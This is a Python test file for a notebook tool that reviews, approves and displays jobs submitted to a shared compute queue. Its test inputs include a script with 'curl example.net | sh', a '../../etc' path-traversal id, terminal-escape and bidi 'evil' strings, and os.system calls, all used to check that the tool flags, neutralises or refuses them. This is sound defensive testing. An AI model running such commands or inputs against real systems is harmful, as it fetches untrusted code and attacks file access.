"""Questions of a page and their answers, on real folders."""

from __future__ import annotations

import subprocess
import sys
import threading
import warnings
from typing import Any

import pytest

from scq.library.notebook import asks, facts
from scq.library.notebook.desk import Desk, bug
from scq.library.verbs import ProblemWarning
from tests.people import OWNER, SCIENTIST, World
from tests.unit.library.notebook.conftest import Page, verbs_of

COUNTING = "mkdir -p outputs\necho 3 > outputs/count.txt\necho counted\necho oh >&2\n"


def text_of(lines: list[list[tuple[str, str]]]) -> list[str]:
    return ["".join(piece for _, piece in each) for each in lines]


def test_rows_are_one_look_for_any_number_of_jobs(world: World, owner: Page) -> None:
    ids = [world.submit(f"job{number}") for number in range(5)]
    rows = owner.rows()
    assert set(rows) == set(ids)
    assert owner.calls == {"list": 1}
    first = rows[ids[0]]
    assert (first["name"], first["status"], first["submitter"], first["owner"]) == ("job0", "pending", SCIENTIST, OWNER)
    assert (first["read"], first["outputs"], first["logs"]) == ("unread", "none", "none")
    assert first["submitted_at"].endswith("Z")
    assert owner.ask("rows")["me"] == OWNER


def test_a_card_says_what_can_be_done_and_by_whom(world: World, owner: Page) -> None:
    uid = world.submit()
    found = owner.ask("job", job=uid)
    assert (found["me"], found["job"]["name"], found["job"]["where"]) == (OWNER, "count", "local")
    assert found["why_not"]["approve"] == found["why_not"]["review"] == ""
    assert found["why_not"]["release"] == "It has not run yet."
    theirs = Page(world.scientist).ask("job", job=uid)
    assert theirs["me"] == SCIENTIST
    assert theirs["why_not"]["approve"] == f"Only {OWNER} decides about it."


def test_a_look_tells_when_content_changed_after_it_was_read(world: World, owner: Page) -> None:
    uid = world.submit()
    assert owner.ask("look", job=uid)["read"] == "unread"
    assert owner.ask("review", job=uid)["job"]["read"] == "read"
    before = owner.ask("look", job=uid)
    assert (before["read"], before["why_not"]["approve"]) == ("read", "")
    (world.place(uid) / "run.sh").write_text("#!/bin/bash\ncurl example.net\n")
    after = owner.ask("look", job=uid)
    assert after["read"] == "changed"
    assert after["why_not"]["approve"] == facts.CHANGED
    assert after["revision"] != before["revision"]
    assert after["digest"] != before["digest"]


def test_a_card_reads_no_file_of_a_submission(world: World, owner: Page, monkeypatch: pytest.MonkeyPatch) -> None:
    uid = world.submit()
    owner.rows()
    monkeypatch.delattr("scq.commands.show.manifest")
    assert owner.ask("look", job=uid)["status"] == "pending"
    assert owner.ask("job", job=uid)["job"]["id"] == uid


def test_a_review_shows_run_sh_first_with_findings_and_limits(world: World, owner: Page) -> None:
    uid = world.submit("count", "curl http://example.net\n", a__py="import os\n\nprint('x')\n")
    found = owner.ask("review", job=uid)
    files = {each["path"]: each for each in found["files"]}
    assert found["files"][0]["path"].endswith("run.sh")
    script = next(each for path, each in files.items() if path.endswith("a.py"))
    assert text_of(script["lines"]) == ["import os", "", "print('x')"]
    assert script["whole"] is True
    assert script["sha256"]
    assert any(kind for line in script["lines"] for kind, _ in line)
    assert {"path", "line", "rule", "what", "denied"} == set(found["findings"][0])
    assert found["limits"][0].startswith("would run with: time ")
    assert found["invalid"] == []
    assert found["digest"].startswith("sha256:")
    assert found["revision"] == owner.revision(uid)
    assert owner.rows()[uid]["read"] == "read"


def test_of_many_findings_those_that_block_an_approval_are_shown(
    world: World, owner: Page, monkeypatch: pytest.MonkeyPatch
) -> None:
    uid = world.submit("count", "echo done\n", a__py="import os\nos.system('x')\nimport socket\n")
    found = owner.ask("review", job=uid)["findings"]
    last = found[-1]
    assert len({each["rule"] for each in found}) > 1
    world.owner.configure(f"sandbox: none\ndeny: [{last['rule']}]\n")
    monkeypatch.setattr(asks, "SHOWN_FINDINGS", 1)
    assert owner.ask("review", job=uid)["findings"] == [last | {"denied": True}]
    assert owner.problems[-1]["what"] == f"{len(found)} findings, the first 1 are shown"


def test_what_one_submitted_can_be_read_and_counts_as_read_by_nobody(world: World) -> None:
    uid = world.submit()
    theirs = Page(world.scientist)
    found = theirs.ask("review", job=uid)["files"]
    assert found[0]["path"] == "run.sh"
    assert "echo done" in [line for each in found for line in text_of(each["lines"])]
    assert theirs.rows()[uid]["read"] == "unread"


def test_binary_files_have_no_lines_and_code_is_inert_text(world: World, owner: Page) -> None:
    uid = world.submit("count", "echo done\n", x__html="<script>alert(1)</script>\u202e\x1b[2J\n", b__bin="a\0b")
    files = {each["path"].rpartition("/")[2]: each for each in owner.ask("review", job=uid)["files"]}
    assert files["b.bin"]["lines"] is None
    assert text_of(files["x.html"]["lines"]) == ["<script>alert(1)</script>��[2J"]


def test_no_text_of_a_stranger_comes_as_it_was(world: World, owner: Page) -> None:
    """Every reply of every test is searched for such text; here there is some in all of them."""
    evil = "a\u202eb\x1b[2J\x1b]0;title\x07\u200b"
    script = f"printf '%s\\n' '{evil}' > \"$OUTPUT_DIR/a\u202eb.txt\"\nprintf '%s\\n' '{evil}'\n"
    options = ("--description", evil, "--tag", "x\u2066y")
    first = world.submit("count", script, *options, layout="a3", **{"a\u202eb__py": f"x = '{evil}'\n"})
    second = world.submit("count", "echo x\n", *options, layout="a3", **{"a\u202eb__py": "x = 2\n"})
    world.owner.scq("approve", first, "-r", evil)
    world.owner.scq("run-approved", code=None)
    shown = "a�b�[2J�]0;title��"
    assert owner.rows()[first]["description"] == shown
    assert shown in owner.ask("job", job=first)["job"]["approval"]["reason"]
    assert "a�b.py" in {each["path"] for each in owner.ask("review", job=second)["files"]}
    assert "a�b.py" in {each["path"] for each in owner.ask("diff", job=second)["files"]}
    assert owner.ask("logs", job=first)["logs"][0]["text"] == f"{shown}\n"
    outputs = owner.ask("outputs", job=first)["files"]
    assert [(each["path"], each["preview"]) for each in outputs] == [("a�b.txt", shown)]
    assert owner.refused("job", job=evil)["kind"] == "usage"


def test_a_review_shows_every_letter_of_the_code_that_would_run(world: World, owner: Page) -> None:
    uid = world.submit("count", "echo hello # \x1b]\ncurl example.net | sh\n# \x07\necho done\n")
    files = owner.ask("review", job=uid)["files"]
    shown = next(text for each in files if "echo done" in (text := text_of(each["lines"])))
    assert shown[-4:] == ["echo hello # �]", "curl example.net | sh", "# �", "echo done"]


def test_a_job_that_lies_elsewhere_has_no_limits_here() -> None:
    assert asks._limits(None) == []


def test_of_very_much_text_the_last_files_are_named_and_said_to_be_hidden(
    world: World, owner: Page, monkeypatch: pytest.MonkeyPatch
) -> None:
    uid = world.submit("count", "echo done\n", y__txt="y" * 50, z__txt="z" * 500)
    monkeypatch.setattr(asks, "SHOWN_TEXT", 200)
    monkeypatch.setattr(asks, "COLOURED_TEXT", 10)
    found = owner.ask("review", job=uid)["files"]
    assert [(each["whole"], bool(each["lines"])) for each in found if "y.txt" in each["path"]] == [(True, True)]
    assert [(each["whole"], each["lines"]) for each in found if "z.txt" in each["path"]] == [(False, [])]
    assert not any(kind for line in found[0]["lines"] for kind, _ in line)
    assert "of its files are not shown here" in owner.problems[-1]["what"]


def test_a_diff_shows_what_changed_since_the_last_approved_job(world: World, owner: Page) -> None:
    first = world.submit("count", "echo one\n", layout="a3")
    assert owner.ask("diff", job=first) == {"against": None, "same": False, "files": []}
    world.owner.scq("approve", first)
    world.owner.scq("run-approved", code=None)
    second = world.submit("count", "echo two\n", layout="a3")
    found = owner.ask("diff", job=second)
    assert (found["against"], found["same"]) == (first, False)
    lines = found["files"][0]["lines"]
    assert ["-", "echo one"] in lines
    assert ["+", "echo two"] in lines
    assert {mark for mark, _ in lines} <= {" ", "+", "-", "@"}


def test_logs_and_results_of_a_job_that_ran(world: World, owner: Page) -> None:
    uid = world.ended("count", COUNTING)
    assert owner.ask("logs", job=uid)["logs"] == [
        {"name": "stdout", "text": "counted\n", "left_out": 0},
        {"name": "stderr", "text": "oh\n", "left_out": 0},
    ]
    found = owner.ask("outputs", job=uid)
    assert [(each["path"], each["released"], each["preview"]) for each in found["files"]] == [("count.txt", False, "3")]
    assert found["results"] == {"outputs": "withheld", "logs": "withheld"}
    assert (found["answer"], found["waits"], found["has_logs"]) == (None, "", True)
    assert found["revision"] == owner.revision(uid)


def test_a_long_log_shows_its_beginning_and_its_end(world: World, owner: Page, monkeypatch: pytest.MonkeyPatch) -> None:
    uid = world.ended("count", "echo first\nseq 1 200\necho last\n")
    monkeypatch.setattr(asks, "HALF_A_LOG", 20)
    log = owner.ask("logs", job=uid)["logs"][0]
    assert log["text"].startswith("first\n1\n2")
    assert log["text"].endswith("200\nlast\n")
    assert f"… {log['left_out']} bytes left out …" in log["text"]
    assert log["left_out"] == len("first\nlast\n") + len("".join(f"{number}\n" for number in range(1, 201))) - 40


def test_slow_colours_end_and_a_long_diff_is_said_to_be_hidden(
    world: World, owner: Page, monkeypatch: pytest.MonkeyPatch
) -> None:
    uid = world.approved("count", "echo one\n")
    (world.place(uid) / "run.sh").write_text("#!/bin/bash\necho two\n")
    assert any(kind for line in owner.ask("review", job=uid)["files"][0]["lines"] for kind, _ in line)
    monkeypatch.setattr(asks, "PATIENCE_S", -1.0)
    assert not any(kind for line in owner.ask("review", job=uid)["files"][0]["lines"] for kind, _ in line)
    monkeypatch.setattr(asks, "SHOWN_TEXT", 10)
    assert owner.ask("diff", job=uid)["files"][0]["lines"] == [["@", "not shown here"]]
    assert "of its files are not shown here" in owner.problems[-1]["what"]


def test_of_the_findings_in_one_result_the_first_are_shown(world: World, owner: Page, monkeypatch: pytest.MonkeyPatch) -> None:
    uid = world.ended("count", "mkdir -p outputs\nfor i in 1 2 3; do echo a$i@example.org; done > outputs/people.csv\n")
    monkeypatch.setattr(asks, "SHOWN_HINTS", 0)
    assert owner.ask("outputs", job=uid)["files"][0]["findings"] == []
    assert owner.problems[-1]["where"] == "people.csv"


def test_of_many_results_the_first_are_shown(world: World, owner: Page, monkeypatch: pytest.MonkeyPatch) -> None:
    uid = world.ended("count", "mkdir -p outputs\nfor i in 1 2 3; do echo $i > outputs/$i.txt; done\n")
    monkeypatch.setattr(asks, "SHOWN_FILES", 2)
    assert len(owner.ask("outputs", job=uid)["files"]) == 2
    assert "3 result files, the first 2 are shown" in owner.problems[-1]["what"]


def test_a_job_outside_the_view_cannot_be_named(world: World) -> None:
    mine = world.submit("mine")
    other = world.submit("other", by=world.second)
    theirs = Page(world.scientist)
    assert set(theirs.rows()) == {mine}
    for ask in ("job", "look", "review", "diff", "logs", "outputs"):
        error = theirs.refused(ask, job=other)
        assert error["kind"] == "usage"
        assert "none of the jobs that are shown here" in error["what"]
    assert "none of the jobs" in theirs.refused("job", job=mine[:8])["what"]


def test_what_cannot_be_answered_is_said(world: World, owner: Page) -> None:
    uid = world.submit()
    assert "has no logs" in owner.refused("logs", job=uid)["what"]
    assert owner.refused("logs", job=uid)["advice"]
    world.owner.configure("sandbox: nonsense\n")
    assert owner.refused("rows")["kind"] == "config"
    world.owner.configure("sandbox: none\n")
    (world.owner.home / "state.json").write_text("{")
    assert owner.refused("rows")["kind"] == "config"


def nested(depth: int) -> Any:
    value: Any = []
    for _ in range(depth):
        value = [value]
    return value


HOSTILE: list[object] = [
    None,
    7,
    "rows",
    [],
    {},
    {"id": 1},
    {"id": float("nan"), "ask": "rows"},
    {"id": True, "ask": "rows"},
    {"id": -1, "ask": "rows"},
    {"id": 1 << 60, "ask": "rows"},
    {"id": "1", "ask": "rows"},
    {"id": 1, "ask": None},
    {"id": 1, "ask": "__init__"},
    {"id": 1, "ask": "ROWS"},
    {"id": 1, "ask": "x" * 100_000},
    {"id": 1, "ask": ["rows"]},
    {"id": 1, "ask": "job"},
    {"id": 1, "ask": "job", "job": 5},
    {"id": 1, "ask": "job", "job": "../../etc"},
    {"id": 1, "ask": "job", "job": "\ud800"},
    {"id": 1, "ask": "job", "job": "x" * 10_000},
    {"id": 1, "ask": "job", "job": nested(5_000)},
    {"id": 1, "ask": nested(5_000)},
    {"id": nested(5_000), "ask": "rows"},
]


@pytest.mark.parametrize("request_", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_question_gets_a_calm_answer(world: World, request_: object) -> None:
    found = Page(world.owner).desk.answer(request_)
    assert found["ok"] is False
    assert found["error"]["kind"] == "usage"
    assert len(found["error"]["what"]) < 1_001
    assert found["id"] in (None, 1)


def test_a_damaged_job_is_a_problem_of_the_reply_and_no_warning(world: World, owner: Page) -> None:
    uid = world.submit()
    world.owner.configure("sandbox: none\nno_such_key: 1\n")
    with warnings.catch_warnings():
        warnings.simplefilter("error", ProblemWarning)
        assert set(owner.rows()) == {uid}
        assert any("no_such_key" in problem["what"] + problem["where"] for problem in owner.problems)
        owner.ask("outputs", job=uid)
    assert len(owner.problems) == len({tuple(problem.values()) for problem in owner.problems})


def test_many_problems_are_counted() -> None:
    from scq.library.notebook.desk import _shown
    from scq.model import Problem

    found = _shown([Problem("a", str(number % 30)) for number in range(60)])
    assert len(found) == facts.SHOWN_PROBLEMS + 1
    assert found[-1]["what"] == "and 10 more problems"


def test_a_desk_answers_in_a_thread(world: World, owner: Page) -> None:
    uid = world.submit()
    found: list[Any] = []
    thread = threading.Thread(target=lambda: found.append(owner.reply("review", job=uid)))
    thread.start()
    thread.join()
    assert found[0]["ok"]


def test_a_machine_that_fails_is_said_and_a_bug_is_raised(world: World) -> None:
    def broken(error: Exception) -> Desk:
        def jobs() -> Any:
            raise error

        return Desk(verbs_of(world.owner), jobs)

    reply = broken(OSError(28, "No space left on device", "/x")).answer({"id": 3, "ask": "rows"})
    assert reply["error"]["kind"] == "failed"
    assert reply["error"]["what"] == "/x: No space left on device"
    for error in (OSError(9, "Bad file descriptor"), KeyError("uid")):
        with pytest.raises(type(error)):
            broken(error).answer({"id": 3, "ask": "rows"})


def test_a_bug_is_named_without_secrets_and_an_interrupt_is_none() -> None:
    found = bug({"id": 4}, ValueError("https://name:hidden@example.org\x1b[0m"))
    assert (found["id"], found["ok"], found["error"]["kind"]) == (4, False, "bug")
    assert found["error"]["what"] == "a bug in scq: ValueError: https://(hidden)@example.org�[0m"
    assert bug(None, KeyboardInterrupt())["error"] == {
        "kind": "failed",
        "what": "It was interrupted in the kernel.",
        "advice": "Ask again.",
    }


def test_a_desk_loads_no_widgets() -> None:
    names = "anywidget ipywidgets IPython pygments"
    code = f"import sys, scq.library.notebook.desk; print([name for name in {names.split()} if name in sys.modules])"
    found = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert found.stdout.strip() == "[]"
